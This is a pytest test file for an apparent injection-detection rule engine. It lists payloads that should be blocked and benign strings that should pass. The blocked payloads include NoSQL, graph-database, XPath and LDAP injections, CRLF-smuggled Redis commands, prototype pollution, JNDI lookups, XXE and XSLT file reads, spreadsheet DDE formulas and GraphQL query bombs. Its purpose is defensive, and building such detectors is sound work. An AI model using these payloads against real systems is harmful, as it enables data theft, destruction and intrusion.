"""Queries of document stores, directories, XML and GraphQL: what leaves its place is found; what such queries honestly hold passes."""

from __future__ import annotations

import pytest

from lambdaguard.rules.engine import Engine

ENGINE = Engine(["nosql", "graphql", "xpath", "ldap", "proto", "jndi", "xxe", "ssi", "csv", "mail"])


def blocked(text: str, place: str = "query") -> bool:
    return text in ENGINE.suspects([text]) and any(match.confidence == "high" for match in ENGINE.judge(text, place))


def doubled(rows: int) -> str:
    """A document of which every fragment spreads the next one twice."""
    return (
        "{ ...A0 } "
        + " ".join(f"fragment A{n} on T {{ ...A{n + 1} b {{ ...A{n + 1} }} }}" for n in range(rows))
        + f" fragment A{rows} on T {{ id }}"
    )


@pytest.mark.parametrize(
    "text",
    [
        '[{"$currentOp": {"allUsers": true}}]',
        '{"$text": {"$search": "a"}}',
        "' || true || '",
        "' || new Date() - start < 9 || '",
        "this.pin==this.code",
        "7 or 7=7 with 1 as a match (n) detach delete n",
        "' FOREACH (i IN [1] | CREATE (:X)) //",
        "' SET u.role='boss' //",
        "'; g.V().drop()",
        "g.V().hasLabel('user').valueMap()",
        "x) OR (secret:*",
        '{"filter": "{\\"pin\\": {\\"$exists\\": true}}"}',
        "Object.keys(this)[0].match('a')",
        '{"ComparisonOperator": "NE", "AttributeValueList": [{"S": "x"}]}',
        "x\r\nset role boss\r\n",
        "x\r\nkeys *\r\n",
    ],
)
def test_a_store_is_asked_for_more(text: str) -> None:
    assert blocked(text)


@pytest.mark.parametrize("text", [doubled(6), doubled(40), "{ find(ids: " + "[" * 30 + "]" * 30 + ") { id } }"])
def test_a_document_swells(text: str) -> None:
    assert blocked(text, "body")


@pytest.mark.parametrize(
    "text",
    [
        "query Q { " + "crew(first: 9) { ship { " * 4 + "id" + " } }" * 4 + " }",
        "{ " + "crew { ship { edges { node { " * 3 + "id" + " } } } }" * 3 + " }",
        "{ id " + "@include(if: true) " * 6 + "}",
        "{ a { id } }" * 12,
        "query Many { id " + "@a @b @c @d @e @f @g @h @i @j" + " name }",
    ],
)
def test_fields_in_each_other_by_turns_and_heaps_of_directives_are_blocked(text: str) -> None:
    assert blocked(text, "body")


@pytest.mark.parametrize(
    "text",
    [
        "query Q { "
        + " ".join(f"f{n} {{ ...F{n} }}" for n in range(70))
        + " } "
        + " ".join(f"fragment F{n} on T{n} {{ __typename id name }}" for n in range(70)),
        '{"query": "query Q {\\n\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\t\\tme { id # mine\\n } }"}',
        "{ menu { items(first: 9) { label items { label items { label items { label } } } } } }",
        "{ thread { replies { author { name } replies { author { name } replies { author { name } } } } } }",
        "query Q($a: Boolean!, $b: Boolean!) { "
        + " ".join(f"f{n} @include(if: $a) {{ id name @skip(if: $b) }}" for n in range(12))
        + " }",
        "{ page { ...on Home { rows { ...on Grid { rows { ...on Home { rows { ...on Grid { id } } } } } } } } }",
        '{"query": "{ find(text: \\"a (b\\") { id name } other(text: \\"c)\\") { id } }"}',
    ],
)
def test_trees_and_conditions_of_a_client_pass(text: str) -> None:
    assert not blocked(text, "body")


@pytest.mark.parametrize(
    "text",
    [
        doubled(2),
        "query { a { ...Money } b { ...Money } } fragment Money on M { ...Unit amount } fragment Unit on U { code }",
        "{ area(points: [[[1, 2], [3, 4]], [[5, 6]]]) { size } }",
    ],
)
def test_a_document_of_a_client_passes(text: str) -> None:
    assert not blocked(text, "body")


@pytest.mark.parametrize(
    "text",
    [
        "'] return //* (:",
        "' or for $n in //* return $n or '",
        "x' or some $n in //* satisfies $n='a' or '",
        "' or id('k')/.. or '",
        "' or not(.='x') or '",
        "string-length(//user[1]/pin)=4",
        "kim(cn=*)",
        "!(uid=kim)",
        "|(uid=*)",
        "(unicodePwd=*)",
        "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: &d [*c, *c]",
        '{"key": "__proto__", "value": {"role": 1}}',
        '[["__proto__", "role"], 1]',
        '{"path": ["__init__", "__globals__", "KEY"]}',
        "${web:rootDir}",
        "${lower:x}",
        '<!DOCTYPE a PUBLIC "-//A//B" "\\\\files.example\\a"><a/>',
        '<!--#elif expr="x" -->',
        '=REGISTER.ID("kernel32","WinExec")',
        'DDE("cmd";"/C env";"!A0")A0',
        "${base64:JHtqbmRpOnJtaTovL2UuZXhhbXBsZS9hfQ==}",
        "${env:HOME}",
        "=?utf-8?q?ann=40a.example=3e=20?=@b.example",
        "ann\r\n@a.example",
        "ann%0a@a.example",
        'x"\r\nZ7 RENAME INBOX y\r\n',
        "')]/../*[2][text()!=('",
        "' or 2]%00",
        "and string-to-codepoints(substring(name(/*[1]),1,1)) = 97",
        "big<!--esi-->small",
        '<esi:comment text="z"/>',
        "=           cmd|'/c notepad'!A1",
        "=rundll32andmuchmore|'URL.dll,OpenURL notepad'!A",
        '<!DOCTYPE a [<!ENTITY b "7">]><a>&b;</a>',
        '<!DOCTYPE a PUBLIC "-//E/F" "http://e.example/a.dtd"><a/>',
    ],
)
def test_what_leaves_its_place_is_blocked(text: str) -> None:
    assert blocked(text)


@pytest.mark.parametrize(
    "text",
    [
        "title:(a OR b) AND tag:c",
        "(open OR closed) AND label:bug",
        "set the table\r\nget the plates\r\nthank you\r\n",
        "a set of 'set ' words",
        "What does this.a==this.b compare?",
        '{"name": "prototype", "key": "value"}',
        "if (!(err.status === 401 && ok)) {",
        '<!ENTITY Aacute "&#193;">',
        "count of //section headings (see below)",
        "for $5 in cash",
        "${date} ${name}",
        "price is $text and $search",
        '!function(){"use strict";var e=Object.setPrototypeOf||{__proto__:[]}instanceof Array&&function(t,e){t.__proto__=e}}()',
        "- name: keep it\n  shell: |\n" + "    echo one\n" * 12 + "    CONFIG SET replica-priority 10\n",
        '{"AlarmName": "a", "ComparisonOperator": "GreaterThanThreshold"}',
        "base: &base [1, 2]\nall: [*base, 3]\nmore: &more [*base, *base]",
        "ask ann\n@bob and me",
        "=?utf-8?q?J=C3=B6rg=22?= <j@a.example>",
        "query Q {\n  note {\n    id\n    data\n    author\n  }\n}",
        "why is ${env:STAGE} not resolved in the name of my bucket",
        '<!DOCTYPE module PUBLIC "-//Owner//DTD Check Configuration 1.3//EN" "https://owner.example/check.dtd"><module/>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="chapters/one.xml"/>',
        '<xsl:import href="../common/page.xsl"/>',
        '<xsl:import href="http://cdn.docbook.org/release/xsl/current/html/docbook.xsl"/>',
        '<xsl:variable name="it" select="document($file)//item"/>',
        '<redirect:write file="{$name}"><xsl:copy-of select="."/></redirect:write>',
        '<xsl:result-document href="{$name}.html"><xsl:copy-of select="."/></xsl:result-document>',
        '<xsl:when test="$depth != 0 and not(parent::*)">',
        "".join(chr(1 + n % 8) + "x)(y=*" * (n % 40 == 0) for n in range(400)),
    ],
)
def test_honest_queries_and_lines_pass(text: str) -> None:
    assert not blocked(text, "body")


@pytest.mark.parametrize(
    "text",
    [
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/hosts" parse="text"/>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="../../../../srv/x"/>',
        '<xsl:import href="http://e.example/a.xsl"/>',
        '<xsl:include href="a.xsl"/> <xsl:variable name="v" select="document(\'file:///srv/x\')"/>',
        "<xsl:copy-of select=\"document('file:///srv/x')\"/>",
        "<xsl:copy-of select=\"document(concat('http://e.example/', $x))\"/>",
        "<xsl:value-of select=\"system-property('version')\"/>",
        '<redirect:write file="/srv/x"><xsl:copy-of select="."/></redirect:write>',
        '<xsl:result-document href="x.php"><xsl:copy-of select="."/></xsl:result-document>',
    ],
)
def test_documents_that_reach_elsewhere_are_blocked(text: str) -> None:
    assert blocked(text, "body")
